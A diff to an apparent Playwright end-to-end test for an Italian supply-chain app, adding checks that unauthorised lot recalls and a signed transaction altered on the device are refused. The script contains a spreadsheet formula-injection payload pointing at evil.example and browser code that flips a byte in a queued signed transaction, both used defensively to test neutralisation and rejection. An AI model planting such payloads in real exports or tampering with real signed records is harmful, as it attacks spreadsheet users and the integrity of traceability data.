@@ -9,7 +9,9 @@ events -> a second device paired and approved (record right only) -> it
 records -> split -> the consumer page shows the events
 -> spreadsheets: a file with bad rows refused row by row before anything is
 signed, an XLSX of lots and a CSV of events imported, the exports read back
-with a hostile note neutralised -> the second device revoked -> its next submission refused -> the same
+with a hostile note neutralised -> a recall by the record-only phone refused, a queued transaction altered
+on the device refused before sending, a recall by the admin -> the second
+device revoked -> its next submission refused -> the same
 screens in English. A screenshot of each step goes to OUT_DIR. With AXE_JS
 (axe-core's axe.min.js), axe checks each screen against the WCAG 2.0/2.1 A
 and AA rules and any serious or critical violation fails the run. Prints one
@@ -70,7 +72,8 @@ def shot(page, name):
 
 TITLES = {"#/record": ["Registra un evento", "Record an event"], "#/split": ["Dividi un lotto"],
           "#/devices": ["Dispositivi"], "#/queue": ["Invii", "Submissions"], "#/lot": ["Nuovo lotto"],
-          "#/product": ["Nuovo prodotto"], "#/": ["I miei lotti", "My lots"], "#/sheets": ["Fogli di calcolo"]}
+          "#/product": ["Nuovo prodotto"], "#/": ["I miei lotti", "My lots"], "#/sheets": ["Fogli di calcolo"],
+          "#/recall": ["Richiamo di un lotto"]}
 # A receiver's note written to attack whoever opens the export in a spreadsheet.
 HOSTILE_NOTE = '=HYPERLINK("https://evil.example/?x","ok")'
 sheet_checks = {}
@@ -212,6 +215,39 @@ def spreadsheets(a):
     shot(a, "sheet-exported")
 
 
+TAMPER_JS = """async () => {
+  const db = await new Promise((ok, no) => { const r = indexedDB.open("filiera-app", 1); r.onsuccess = () => ok(r.result); r.onerror = () => no(r.error); });
+  const all = await new Promise((ok) => { const r = db.transaction("queue").objectStore("queue").getAll(); r.onsuccess = () => ok(r.result); });
+  const done = all.filter((i) => i.status === "committed" && i.tx).sort((x, y) => y.recorded_ms - x.recorded_ms)[0];
+  // The last byte of the call's arguments, right before the 64-byte signature.
+  const at = done.tx.length - 2 * 65;
+  const flipped = ((parseInt(done.tx.slice(at, at + 2), 16) ^ 1).toString(16)).padStart(2, "0");
+  const item = { ...done, id: "tampered", tx: done.tx.slice(0, at) + flipped + done.tx.slice(at + 2), status: "waiting", what: "altered", recorded_ms: Date.now() };
+  await new Promise((ok) => { const t = db.transaction("queue", "readwrite"); t.objectStore("queue").put(item); t.oncomplete = ok; });
+  return done.nonce;
+}"""
+
+
+def tampered(a):
+    go(a, "#/queue")
+    nonce_before = a.request.get(f"{API}/v1/accounts/{admin_key(a)}/nonce").json()["next_nonce"]
+    a.evaluate(TAMPER_JS)
+    a.evaluate("window.dispatchEvent(new Event('online'))")
+    go(a, "#/")
+    go(a, "#/queue")
+    expect(a.locator("#queue")).to_contain_text("La transazione è stata alterata dopo la firma: non è stata inviata.", timeout=TIMEOUT_MS)
+    nonce_after = a.request.get(f"{API}/v1/accounts/{admin_key(a)}/nonce").json()["next_nonce"]
+    assert nonce_after == nonce_before, f"the altered transaction reached the chain ({nonce_before} -> {nonce_after})"
+    shot(a, "tampered-refused")
+
+
+def admin_key(page):
+    return page.evaluate("""async () => {
+      const db = await new Promise((ok) => { const r = indexedDB.open("filiera-app", 1); r.onsuccess = () => ok(r.result); });
+      return await new Promise((ok) => { const r = db.transaction("device").objectStore("device").get("self"); r.onsuccess = () => ok(r.result.pub); });
+    }""")
+
+
 def main():
     with sync_playwright() as p:
         browser = p.chromium.launch(executable_path=BROWSER, args=["--no-sandbox"])
@@ -309,6 +345,19 @@ def main():
         send(b, "Registrato in rete")
         shot(b, "second-records")
 
+        # 5b. The second phone may record but not recall: its recall is
+        #     refused by the contract, in words, and the lot is untouched.
+        go(b, "#/recall")
+        b.select_option("#lot", f"{GTIN}/{LOT}")
+        b.fill("#reason", "prova di richiamo senza diritto")
+        b.locator("main button[type=submit]").click()
+        expect(b.locator("#err")).to_have_text("Spunta la conferma per richiamare il lotto.")
+        b.check("#sure")
+        send(b, "non ha il permesso")
+        recall = b.request.get(f"{API}/v1/lots/{GTIN}/{LOT}").json()["recall"]
+        assert recall is None, f"a refused recall changed the lot: {recall}"
+        shot(b, "recall-refused-no-right")
+
         # 6. Split the lot.
         go(a, "#/split")
         a.select_option("#lot", f"{GTIN}/{LOT}")
@@ -344,6 +393,20 @@ def main():
 
         # 6c. Spreadsheets: import with a dry run, export neutralised.
         spreadsheets(a)
+
+        # 6d. A queued transaction altered on the device after signing (one
+        #     byte of its call) is refused by the app before it is sent.
+        tampered(a)
+
+        # 6e. The admin phone recalls a lot of the spreadsheet.
+        go(a, "#/recall")
+        a.select_option("#lot", f"{GTIN}/CU-XLS-03")
+        a.fill("#reason", "Listeria in un campione di controllo")
+        a.check("#sure")
+        send(a, "Registrato in rete")
+        recall = a.request.get(f"{API}/v1/lots/{GTIN}/CU-XLS-03").json()["recall"]
+        assert recall and recall["reason"] == "Listeria in un campione di controllo", recall
+        shot(a, "recalled")
 
         # 7. The consumer page of the lot shows what was recorded.
         a.goto(f"{API}/01/{GTIN}/10/{LOT}")
